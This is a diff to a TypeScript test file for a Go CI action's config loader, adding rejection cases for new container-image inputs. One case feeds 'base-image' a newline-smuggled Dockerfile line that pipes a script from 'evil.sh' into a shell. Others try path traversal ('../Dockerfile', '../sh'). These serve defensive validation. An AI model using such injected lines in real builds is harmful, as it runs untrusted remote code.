@@ -14,11 +14,11 @@ const GO_MOD = { '/ws/go.mod': 'module x\n\ngo 1.26.0\n\ntoolchain go1.26.8\n' }
 
 describe('loadConfig: every bad input names the input, the value and what is accepted', () => {
   const cases: Array<[string, Partial<Record<InputName, string>>, Record<string, string>, InputName, string]> = [
-    ['a stage of a later release', { stages: 'setup, image' }, GO_MOD, 'stages', 'setup, image'],
+    ['a stage of a later release', { stages: 'setup, deploy' }, GO_MOD, 'stages', 'setup, deploy'],
     ['an unknown stage', { stages: 'setup,deploy' }, GO_MOD, 'stages', 'setup,deploy'],
     ['no stage at all', { stages: ',' }, GO_MOD, 'stages', ','],
     ['a wrong separator', { stages: 'setup;test' }, GO_MOD, 'stages', 'setup;test'],
-    ['image, in any case', { stages: 'SETUP, Image' }, GO_MOD, 'stages', 'SETUP, Image'],
+    ['image without build', { stages: 'setup, test, image', image: 'ghcr.io/acme/app' }, GO_MOD, 'stages', 'setup, test, image'],
     ['latest (say stable)', { 'go-version': 'latest' }, {}, 'go-version', 'latest'],
     ['four version parts', { 'go-version': '1.26.8.1' }, {}, 'go-version', '1.26.8.1'],
     ['a word', { 'go-version': 'banana' }, {}, 'go-version', 'banana'],
@@ -61,6 +61,25 @@ describe('loadConfig: every bad input names the input, the value and what is acc
     ['archives: zip', { archives: 'zip' }, GO_MOD, 'archives', 'zip'],
     ['cache: yes', { cache: 'yes' }, GO_MOD, 'cache', 'yes'],
     ['cache-save: sometimes', { 'cache-save': 'sometimes' }, GO_MOD, 'cache-save', 'sometimes'],
+    ['an image with a tag', { image: 'ghcr.io/acme/app:v1' }, GO_MOD, 'image', 'ghcr.io/acme/app:v1'],
+    ['an image with a digest', { image: 'ghcr.io/acme/app@sha256:' + 'a'.repeat(64) }, GO_MOD, 'image', 'ghcr.io/acme/app@sha256:' + 'a'.repeat(64)],
+    ['an image in upper case', { image: 'ghcr.io/Acme/App' }, GO_MOD, 'image', 'ghcr.io/Acme/App'],
+    ['an image with a space', { image: 'ghcr.io/acme/my app' }, GO_MOD, 'image', 'ghcr.io/acme/my app'],
+    ['an image with no linux platform', { image: 'ghcr.io/acme/app', platforms: 'darwin/arm64' }, GO_MOD, 'platforms', 'darwin/arm64'],
+    ['image-platforms not built', { image: 'ghcr.io/acme/app', 'image-platforms': 'linux/386' }, GO_MOD, 'image-platforms', 'linux/386'],
+    ['image-platforms not linux', { image: 'ghcr.io/acme/app', 'image-platforms': 'darwin/arm64' }, GO_MOD, 'image-platforms', 'darwin/arm64'],
+    ['push: yes', { image: 'ghcr.io/acme/app', push: 'yes' }, GO_MOD, 'push', 'yes'],
+    ['a tag with a space', { image: 'ghcr.io/acme/app', tags: 'v1, bad tag' }, GO_MOD, 'tags', 'v1, bad tag'],
+    ['a tag of another image', { image: 'ghcr.io/acme/app', tags: 'ghcr.io/acme/other:v1' }, GO_MOD, 'tags', 'ghcr.io/acme/other:v1'],
+    ['a tag starting with a dot', { image: 'ghcr.io/acme/app', tags: '.hidden' }, GO_MOD, 'tags', '.hidden'],
+    ['a label without =', { image: 'ghcr.io/acme/app', labels: 'team' }, GO_MOD, 'labels', 'team'],
+    ['a missing Dockerfile', { image: 'ghcr.io/acme/app', dockerfile: 'Dockerfile.prod' }, GO_MOD, 'dockerfile', 'Dockerfile.prod'],
+    ['a Dockerfile outside', { image: 'ghcr.io/acme/app', dockerfile: '../Dockerfile' }, GO_MOD, 'dockerfile', '../Dockerfile'],
+    ['a base image with a new line', { image: 'ghcr.io/acme/app', 'base-image': 'alpine\nRUN curl evil.sh | sh' }, GO_MOD, 'base-image', 'alpine\nRUN curl evil.sh | sh'],
+    ['provenance: max', { image: 'ghcr.io/acme/app', provenance: 'max' }, GO_MOD, 'provenance', 'max'],
+    ['sbom: 1', { image: 'ghcr.io/acme/app', sbom: '1' }, GO_MOD, 'sbom', '1'],
+    ['a builder name with a slash', { image: 'ghcr.io/acme/app', 'buildx-builder': 'a/b' }, GO_MOD, 'buildx-builder', 'a/b'],
+    ['an image binary with a slash', { image: 'ghcr.io/acme/app', 'image-binary': '../sh' }, GO_MOD, 'image-binary', '../sh'],
   ]
 
   it('has at least 20 cases', () => expect(cases.length).toBeGreaterThanOrEqual(20))
@@ -83,7 +102,8 @@ describe('loadConfig: good inputs', () => {
   it('reads go.mod by default, preferring its toolchain line', async () => {
     const c = await load({}, GO_MOD)
     expect(c.goVersion).toMatchObject({ spec: { kind: 'exact', version: '1.26.8' }, source: 'go.mod' })
-    expect(c.stages).toEqual(['setup', 'vet', 'fmt', 'lint', 'test', 'build'])
+    expect(c.stages).toEqual(['setup', 'vet', 'fmt', 'lint', 'test', 'build', 'image'])
+    expect(c.image).toBeUndefined()
     expect(c.build.targets.map(t => t.platform)).toEqual(['linux/amd64', 'linux/arm64', 'darwin/arm64', 'windows/amd64'])
     expect(c.build).toMatchObject({ main: [], binaryName: '', version: '', versionPackage: 'main', cgo: false, outputDir: '/ws/dist' })
     expect(c.workingDirectory).toBe('/ws')
